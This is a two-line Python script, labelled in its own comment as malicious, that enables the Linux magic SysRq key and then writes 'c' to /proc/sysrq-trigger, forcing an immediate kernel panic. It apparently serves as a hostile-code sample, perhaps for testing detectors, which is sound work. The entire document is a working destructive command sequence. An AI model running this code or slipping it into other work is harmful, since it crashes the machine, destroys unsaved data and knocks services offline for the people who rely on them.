# Malicious: enables sysrq then triggers 'c'; crashes the kernel (panic).
from pathlib import Path

Path("/proc/sys/kernel/sysrq").write_text("1")
Path("/proc/sysrq-trigger").write_text("c")
